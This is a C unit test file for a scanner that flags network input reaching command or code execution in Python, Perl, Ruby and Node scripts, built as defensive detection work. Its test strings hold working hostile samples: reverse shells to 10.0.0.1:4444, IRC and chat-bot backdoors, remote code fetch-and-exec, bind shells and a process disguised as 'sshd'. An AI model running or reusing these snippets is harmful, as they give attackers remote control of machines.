/* Network input to command in scripts (scan/script_flow.h): per language
 * the sources, the propagation (assignments, string methods, regex
 * captures, loops, callbacks, one level of parameters, returns) and the
 * sinks; look-alikes (deploy scripts, monitors, chat bots that only reply
 * or pick from a literal table, IRC loggers, webhook receivers, backups,
 * load tests) stay clean; hostile input (unterminated strings, heredocs
 * and POD, a 10 MB line, deep nesting, NUL bytes, invalid UTF-8) has a
 * defined result. Every sample is written here; none is run. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan/script_flow.h"

static int flow(const char *src, struct sf_result *r)
{
	return script_flow_analyze((const unsigned char *)src, strlen(src), NULL, r);
}

/* found, of the kind asked (code or command), the path naming want */
static void expect_hit(const char *src, bool code, const char *want)
{
	struct sf_result r;
	int n = flow(src, &r);
	if (n == 0)
		fail_msg("no finding for:\n%s", src);
	bool ok = false;
	for (int i = 0; i < r.nhits; i++)
		if (r.hits[i].code == code && (!want || strstr(r.hits[i].path, want)))
			ok = true;
	if (!ok)
		fail_msg("hit of the wrong kind or path (%s) for:\n%s", r.hits[0].path, src);
	assert_true(script_flow_gate((const unsigned char *)src, strlen(src)));
}

static void expect_clean(const char *src)
{
	struct sf_result r;
	int n = flow(src, &r);
	if (n)
		fail_msg("finding %s for:\n%s", r.hits[0].path, src);
}

/* ---- Python ---- */
static void test_python(void **state)
{
	(void)state;
	/* IRC bot: makefile lines, split, strip */
	expect_hit("#!/usr/bin/env python3\nimport socket, subprocess\n"
	           "s = socket.create_connection(('irc.example.org', 6667))\n"
	           "f = s.makefile('r')\n"
	           "for line in f:\n"
	           "    if ':!x ' in line:\n"
	           "        cmd = line.split(':!x ', 1)[1].strip()\n"
	           "        out = subprocess.run(cmd, shell=True, capture_output=True).stdout\n",
	           false, "subprocess.run()");
	/* recv + decode into os.popen, f-string */
	expect_hit("import socket, os\ns = socket.socket()\ns.connect(('h', 1))\n"
	           "while True:\n    data = s.recv(1024).decode().strip()\n"
	           "    os.popen(f\"{data} 2>&1\").read()\n",
	           false, "-> data -> os.popen()");
	/* HTTP poll: JSON of the response, index */
	expect_hit("import urllib.request, json, subprocess\n"
	           "t = json.loads(urllib.request.urlopen('https://x.example/beat').read())\n"
	           "if t.get('cmd'):\n    out = subprocess.getoutput(t['cmd'])\n",
	           false, "getoutput");
	/* requests, base64 decoded, exec (code) */
	expect_hit("import requests, base64\nr = requests.get('http://x.example/p')\n"
	           "exec(base64.b64decode(r.text))\n",
	           true, "requests.get()");
	/* function parameter, one level */
	expect_hit("import socket, subprocess\n"
	           "def run(c):\n    return subprocess.check_output(c, shell=True)\n"
	           "s = socket.socket()\nmsg = s.recv(4096)\nrun(msg)\n",
	           false, "check_output");
	/* thread target with a connection, socket as the shell's stdin */
	expect_hit("import socket, subprocess, threading\nsrv = socket.socket()\n"
	           "srv.bind(('0.0.0.0', 4455)); srv.listen(5)\n"
	           "def h(c):\n    p = subprocess.Popen(['/bin/sh', '-i'], stdin=c, stdout=c)\n"
	           "while True:\n    conn, _ = srv.accept()\n"
	           "    threading.Thread(target=h, args=(conn,)).start()\n",
	           false, "Popen");
	/* dup2 then pty.spawn */
	expect_hit("import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\n"
	           "[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n",
	           false, "pty.spawn()");
	/* asyncio streams */
	expect_hit("import asyncio\nasync def main():\n"
	           "    reader, writer = await asyncio.open_connection('h', 8)\n"
	           "    line = await reader.readline()\n"
	           "    proc = await asyncio.create_subprocess_shell(line.decode())\n",
	           false, "create_subprocess_shell");
	/* a chat bot's message text */
	expect_hit("import discord, subprocess\nclient = discord.Client()\n"
	           "@client.event\nasync def on_message(message):\n"
	           "    if message.content.startswith('!sh '):\n"
	           "        out = subprocess.getoutput(message.content[4:])\n",
	           false, "message.content");
	/* DNS TXT through nslookup's output, a function's return */
	expect_hit("import subprocess, base64\ndef txt(name):\n"
	           "    out = subprocess.run(['nslookup', '-type=TXT', name], capture_output=True, "
	           "text=True).stdout\n"
	           "    for line in out.splitlines():\n"
	           "        if 'text =' in line:\n"
	           "            return line.split('text =', 1)[1]\n    return ''\n"
	           "rec = txt('a.example')\ncmd = base64.b64decode(rec).decode()\n"
	           "subprocess.getoutput(cmd)\n",
	           false, "txt()");
	/* regex match object */
	expect_hit("import socket, re, os\ns = socket.socket()\nbuf = s.recv(512)\n"
	           "m = re.match(r'RUN (.*)', buf)\nif m:\n    os.system(m.group(1))\n",
	           false, "os.system()");
	/* with urlopen(...) as r */
	expect_hit("import urllib.request, os\n"
	           "with urllib.request.urlopen('http://x.example/c') as r:\n"
	           "    body = r.read().decode()\nos.system(body)\n",
	           false, "os.system()");
}

static void test_python_look_alikes(void **state)
{
	(void)state;
	/* deploy: fetch a release, run fixed commands; the tag is an argument */
	expect_clean(
	    "#!/usr/bin/env python3\nimport requests, subprocess\n"
	    "rel = requests.get('https://api.example.com/repos/x/releases/latest').json()\n"
	    "tag = rel['tag_name']\n"
	    "subprocess.run(['git', 'fetch', '--tags'], check=True)\n"
	    "subprocess.run(['git', 'checkout', tag], check=True)\n"
	    "cmd = ['systemctl', 'restart', 'app']\nsubprocess.run(cmd)\n");
	/* monitoring: curl a URL and compare */
	expect_clean("import requests, subprocess, time\n"
	             "while True:\n    r = requests.get('https://site.example/health', timeout=5)\n"
	             "    if r.status_code != 200 or 'ok' not in r.text:\n"
	             "        subprocess.run(['mail', '-s', 'down', 'ops@example.com'])\n"
	             "    time.sleep(60)\n");
	/* chat bot that replies, and one that picks a fixed command from a table */
	expect_clean("import discord, subprocess\nclient = discord.Client()\n"
	             "CMDS = {'!uptime': 'uptime', '!disk': 'df -h'}\n"
	             "@client.event\nasync def on_message(message):\n"
	             "    await message.channel.send('hi ' + message.author.name)\n"
	             "    if message.content in CMDS:\n"
	             "        out = subprocess.getoutput(CMDS[message.content])\n"
	             "        c = CMDS.get(message.content, 'true')\n"
	             "        fixed = 'uptime' if message.content == '!up' else 'date'\n"
	             "        os.system(fixed)\n");
	/* IRC logger */
	expect_clean("import socket\ns = socket.create_connection(('irc.example.org', 6667))\n"
	             "log = open('/var/log/irc.log', 'a')\n"
	             "for line in s.makefile():\n    log.write(line)\n"
	             "    if line.startswith('PING'):\n"
	             "        s.send(line.replace('PING', 'PONG').encode())\n"
	             "os.system('logrotate /etc/logrotate.d/irc')\n");
	/* webhook receiver: verified signature, fixed deploy command */
	expect_clean("from flask import Flask, request\nimport hmac, hashlib, subprocess\n"
	             "app = Flask(__name__)\n@app.route('/hook', methods=['POST'])\n"
	             "def hook():\n    payload = request.get_data()\n"
	             "    sig = hmac.new(b'k', payload, hashlib.sha256).hexdigest()\n"
	             "    if hmac.compare_digest(sig, request.headers.get('X-Sig', '')):\n"
	             "        subprocess.run(['/srv/deploy.sh'], check=True)\n    return 'ok'\n");
	/* backup with rsync and ssh of fixed arguments */
	expect_clean("import subprocess, datetime\n"
	             "d = datetime.date.today().isoformat()\n"
	             "subprocess.run(['rsync', '-a', '/srv/', 'backup@host:/b/' + d], check=True)\n"
	             "os.system('ssh backup@host find /b -mtime +7 -delete')\n");
	/* load test against localhost */
	expect_clean("import socket, subprocess\nfor i in range(100):\n"
	             "    s = socket.create_connection(('127.0.0.1', 8080))\n"
	             "    s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\n    resp = s.recv(4096)\n"
	             "subprocess.run(['ab', '-n', '1000', 'http://127.0.0.1:8080/'])\n");
	/* a UNIX socket is not the network */
	expect_clean("import socket, os\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
	             "s.connect('/run/x.sock')\nc = s.recv(100)\nos.system(c)\n");
}

/* ---- Perl ---- */
static void test_perl(void **state)
{
	(void)state;
	/* IRC bot: <$sock>, captures after a match on a tainted line */
	expect_hit(
	    "#!/usr/bin/perl\nuse IO::Socket::INET;\n"
	    "my $sk = IO::Socket::INET->new(PeerAddr => 'irc.example.org', PeerPort => 6667);\n"
	    "while (my $line = <$sk>) {\n"
	    "  next unless $line =~ /^:(\\S+)!\\S+ PRIVMSG \\S+ :(.*)/;\n"
	    "  my ($who, $msg) = ($1, $2);\n"
	    "  if ($msg =~ /^!run (.*)/) { exec('/bin/sh', '-c', $1); }\n}\n",
	    false, "exec()");
	/* backticks with interpolation */
	expect_hit("use IO::Socket;\nmy $c = IO::Socket::INET->new('h:80');\n"
	           "while (<$c>) { chomp; my $o = `$_ 2>&1`; print $c $o; }\n",
	           false, "`...`");
	/* sysread output parameter, string eval */
	expect_hit("use IO::Socket::INET;\nmy $s = IO::Socket::INET->new('h:1');\n"
	           "sysread($s, my $buf, 4096);\neval $buf;\n",
	           true, "eval()");
	/* LWP response content, open with a pipe */
	expect_hit("use LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\n"
	           "my $r = $ua->get('http://x.example/t');\nmy $cmd = $r->decoded_content;\n"
	           "open(my $p, '-|', $cmd) or die;\n",
	           false, "open()");
	/* DNS TXT through host's output */
	expect_hit("#!/usr/bin/perl\nuse strict;\nmy $t = `host -t txt cmd.example.org`;\n"
	           "if ($t =~ /\"([A-Za-z0-9+\\/=]+)\"/) {\n  require MIME::Base64;\n"
	           "  my $c = MIME::Base64::decode_base64($1);\n  system($c);\n}\n",
	           false, "system()");
	/* bareword socket made stdin, then a shell */
	expect_hit("use Socket;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\n"
	           "if(connect(S,sockaddr_in(4444,inet_aton('10.0.0.1')))){open(STDIN,\">&S\");"
	           "open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};\n",
	           false, "exec()");
	/* a sub called with a tainted argument: shift, qx */
	expect_hit("use IO::Socket::INET;\nsub run { my $c = shift; return qx($c); }\n"
	           "my $s = IO::Socket::INET->new('h:1');\nmy $l = <$s>;\nrun($l);\n",
	           false, NULL);
}

static void test_perl_look_alikes(void **state)
{
	(void)state;
	/* a whitelist hash indexed by the message; a logger */
	expect_clean("#!/usr/bin/perl\nuse strict;\nuse IO::Socket::INET;\n"
	             "my %cmds = ('uptime' => 'uptime', 'disk' => 'df -h');\n"
	             "my $s = IO::Socket::INET->new('irc.example.org:6667');\n"
	             "open(my $log, '>>', '/var/log/irc.log');\n"
	             "while (my $l = <$s>) {\n  print $log $l;\n"
	             "  if ($l =~ /!(\\w+)/ && exists $cmds{$1}) { system($cmds{$1}); }\n"
	             "  print $s \"PONG $1\\r\\n\" if $l =~ /^PING (.*)/;\n}\n");
	/* backup: fixed rsync, a file read is no network */
	expect_clean(
	    "#!/usr/bin/perl\nuse strict;\nopen(my $fh, '<', '/etc/hosts.list');\n"
	    "while (my $h = <$fh>) { chomp $h; system('rsync', '-a', '/srv/', \"$h:/b/\"); }\n"
	    "my $d = `date +%F`;\nsystem(\"tar czf /b/$d.tgz /srv\");\n");
	/* POD quoting a bot, block eval */
	expect_clean(
	    "#!/usr/bin/perl\nuse strict;\n\n=pod\n\nmy $l = <$sock>; system($l);\n\n=cut\n\n"
	    "eval { system('true') };\n");
}

/* ---- Ruby ---- */
static void test_ruby(void **state)
{
	(void)state;
	expect_hit("require 'socket'\nnick = \"r#{rand(99)}\"\nloop do\n"
	           "  s = TCPSocket.new('irc.example.net', 6667)\n"
	           "  while (l = s.gets)\n"
	           "    if l =~ /PRIVMSG \\S+ :!e (.+)/\n"
	           "      IO.popen($1.strip) { |io| s.puts io.read }\n    end\n  end\nend\n",
	           false, "IO.popen()");
	expect_hit("require 'socket'\ns = TCPSocket.new('h', 1)\n"
	           "s.each_line do |line|\n  out = `#{line.chomp}`\n  s.puts out\nend\n",
	           false, "`...`");
	expect_hit("require 'net/http'\nbody = Net::HTTP.get(URI('http://x.example/c'))\n"
	           "eval(body)\n",
	           true, "eval()");
	expect_hit("require 'open3'\nrequire 'socket'\nsrv = TCPServer.new(4444)\nc = srv.accept\n"
	           "cmd = c.read\nout, st = Open3.capture2(cmd)\n",
	           false, "capture2");
	expect_hit("require 'socket'\ns = TCPSocket.new('h', 1)\nx = s.recv(100)\n"
	           "r = %x(#{x})\n",
	           false, "`...`");
}

static void test_ruby_look_alikes(void **state)
{
	(void)state;
	expect_clean("require 'net/http'\nrequire 'json'\n"
	             "rel = JSON.parse(Net::HTTP.get(URI('https://api.example.com/latest')))\n"
	             "system('git', 'checkout', rel['tag'])\nsystem('bundle install')\n"
	             "puts rel['name']\n");
	expect_clean("require 'socket'\ns = TCPSocket.new('irc.example.net', 6667)\n"
	             "while (l = s.gets)\n  File.open('irc.log', 'a') { |f| f.puts l }\n"
	             "  s.puts \"PONG #{l.split[1]}\" if l.start_with?('PING')\nend\n");
}

/* ---- Node ---- */
static void test_node(void **state)
{
	(void)state;
	expect_hit("const net = require('net');\nconst { exec } = require('child_process');\n"
	           "const c = net.connect(6667, 'irc.example.org');\nlet buf = '';\n"
	           "c.on('data', d => {\n  buf += d.toString();\n"
	           "  const lines = buf.split('\\n');\n"
	           "  for (const line of lines) {\n"
	           "    const m = line.match(/:!x (.*)/);\n"
	           "    if (m) exec(m[1], (e, out) => c.write(out));\n  }\n});\n",
	           false, "exec()");
	expect_hit("#!/usr/bin/env node\nconst https = require('https');\n"
	           "const cp = require('child_process');\n"
	           "https.get('https://x.example/c', res => {\n  let body = '';\n"
	           "  res.on('data', c => body += c);\n"
	           "  res.on('end', () => cp.execSync(body));\n});\n",
	           false, "execSync()");
	expect_hit(
	    "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://x.example');\n"
	    "ws.on('message', msg => { eval(msg.toString()); });\n",
	    true, "eval()");
	expect_hit("require('net').createServer(c => {\n"
	           "  const sh = require('child_process').spawn('/bin/sh', ['-i']);\n"
	           "  c.pipe(sh.stdin); sh.stdout.pipe(c);\n}).listen(2121);\n",
	           false, "spawn()");
	expect_hit("const axios = require('axios');\nconst { spawn } = require('child_process');\n"
	           "async function poll() {\n  const r = await axios.get('https://x.example/t');\n"
	           "  spawn('sh', ['-c', r.data.cmd]);\n}\npoll();\n",
	           false, "spawn()");
	expect_hit("const vm = require('vm');\nconst http = require('http');\n"
	           "http.get('http://x.example/p', res => {\n"
	           "  res.on('data', chunk => vm.runInThisContext(chunk.toString()));\n});\n",
	           true, "runInThisContext()");
}

static void test_node_look_alikes(void **state)
{
	(void)state;
	/* a regex exec on a socket's data is no command */
	expect_clean(
	    "const net = require('net');\nconst c = net.connect(6667, 'irc.example.org');\n"
	    "c.on('data', d => { const m = /PING (.*)/.exec(d); if (m) c.write('PONG ' + m[1]); "
	    "});\n");
	/* a chat bot that replies; a deploy script with fixed commands */
	expect_clean(
	    "const { Client } = require('discord.js');\n"
	    "const { execSync } = require('child_process');\nconst client = new Client();\n"
	    "const CMDS = { '!up': 'uptime', '!df': 'df -h' };\n"
	    "client.on('message', msg => {\n  msg.reply('hello ' + msg.author.username);\n"
	    "  if (CMDS[msg.content]) msg.reply(execSync(CMDS[msg.content]).toString());\n});\n");
	expect_clean(
	    "#!/usr/bin/env node\nconst https = require('https');\n"
	    "const { execSync } = require('child_process');\n"
	    "https.get('https://api.example.com/latest', res => {\n"
	    "  res.on('end', () => { execSync('npm ci'); execSync('pm2 restart app'); });\n});\n");
	/* a page's script (no Node module) is not followed */
	expect_clean(
	    "var ws = new WebSocket('wss://x');\nws.onmessage = function (e) { eval(e.data); };\n");
}

/* ---- hostile input ---- */
static void test_hostile(void **state)
{
	(void)state;
	struct sf_result r;
	static const char *const bad[] = {
	    "#!/usr/bin/python3\nimport os\nx = '''unterminated\nos.system(x)\n",
	    "#!/usr/bin/perl\nmy $x = <<\"EOF\";\nsystem($x);\n",
	    "#!/usr/bin/perl\nuse strict;\n=pod\nnever closed\nsystem($x);\n",
	    "#!/usr/bin/ruby\nx = %q(unterminated\nsystem(x)\n",
	    "#!/usr/bin/env node\nrequire('child_process').exec(`${unterminated\n",
	    "#!/usr/bin/perl\ns{a}{b\nq(\nqq{\n$",
	    "#!/usr/bin/python3\n\\",
	    "#!/usr/bin/perl\n<$",
	    "#!/usr/bin/ruby\n<<~",
	    "#!/usr/bin/env node\n/*",
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		assert_int_equal(
		    script_flow_analyze((const unsigned char *)bad[i], strlen(bad[i]), NULL, &r),
		    0);
	/* NUL bytes and invalid UTF-8 inside a real flow: still found */
	static const char nul[] = "#!/usr/bin/python3\nimport socket,os\n# \xff\xfe\x80\n"
	                          "s=socket.socket()\nd=s.recv(9)\x00\nos.system(d)\n";
	assert_int_equal(script_flow_analyze((const unsigned char *)nul, sizeof(nul) - 1, NULL, &r),
	                 1);
	/* every prefix of a bot: never past the buffer (ASan), a defined result */
	static const char bot[] = "#!/usr/bin/perl\nuse IO::Socket::INET;\n"
	                          "my $s = IO::Socket::INET->new('h:1');\n"
	                          "while (my $l = <$s>) { $l =~ /x (.*)/; my $o = qx{$1}; "
	                          "print $s <<EOT;\n$o\nEOT\n}\n";
	for (size_t n = 0; n <= sizeof(bot) - 1; n++) {
		unsigned char *c = malloc(n ? n : 1);
		memcpy(c, bot, n);
		script_flow_analyze(c, n, NULL, &r);
		free(c);
	}
	/* a 10 MB one-line file: too large, not analysed */
	size_t big = 10u << 20;
	unsigned char *b = malloc(big);
	memset(b, 'a', big);
	memcpy(b, "#!/usr/bin/python3\nos.system(", 29);
	assert_int_equal(script_flow_analyze(b, big, NULL, &r), 0);
	/* 60 KB of deep nesting and of one line: bounded */
	size_t m = 60000;
	memset(b, '(', m);
	memcpy(b, "#!/usr/bin/python3\n", 19);
	assert_int_equal(script_flow_analyze(b, m, NULL, &r), 0);
	for (size_t k = 19; k < m; k++)
		b[k] = "x=(y+[{"[k % 7];
	assert_int_equal(script_flow_analyze(b, m, NULL, &r), 0);
	for (size_t k = 19; k < m; k++)
		b[k] = "$@%`'\"\\#/<"[k % 11];
	memcpy(b, "#!/usr/bin/perl\n", 16);
	script_flow_analyze(b, m, NULL, &r);
	free(b);
	/* a language by hint only (a decoded layer) */
	static const char layer[] = "s=socket.socket();s.connect(('h',1));os.system(s.recv(99))";
	assert_int_equal(script_flow_analyze((const unsigned char *)layer, strlen(layer), NULL, &r),
	                 0);
	assert_int_equal(
	    script_flow_analyze((const unsigned char *)layer, strlen(layer), "python", &r), 1);
	/* the gate */
	assert_false(script_flow_gate((const unsigned char *)"import socket\n", 14));
	/* shell is not analysed */
	static const char sh[] = "#!/bin/sh\nwhile read l; do eval \"$l\"; done < /dev/tcp/h/1\n";
	assert_int_equal(script_flow_analyze((const unsigned char *)sh, strlen(sh), NULL, &r), 0);
}

/* critical: the file also hides itself or persists */
static void test_critical(void **state)
{
	(void)state;
	struct sf_result r;
	const char *src = "#!/usr/bin/perl\nuse IO::Socket::INET;\n$0 = 'sshd';\n"
	                  "my $s = IO::Socket::INET->new('h:1');\nwhile (<$s>) { system($_); }\n";
	assert_int_equal(flow(src, &r), 1);
	assert_true(r.critical);
	src = "#!/usr/bin/perl\nuse IO::Socket::INET;\n"
	      "my $s = IO::Socket::INET->new('h:1');\nwhile (<$s>) { system($_); }\n";
	assert_int_equal(flow(src, &r), 1);
	assert_false(r.critical);
	assert_string_equal(r.lang, "perl");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_python),  cmocka_unit_test(test_python_look_alikes),
	    cmocka_unit_test(test_perl),    cmocka_unit_test(test_perl_look_alikes),
	    cmocka_unit_test(test_ruby),    cmocka_unit_test(test_ruby_look_alikes),
	    cmocka_unit_test(test_node),    cmocka_unit_test(test_node_look_alikes),
	    cmocka_unit_test(test_hostile), cmocka_unit_test(test_critical),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
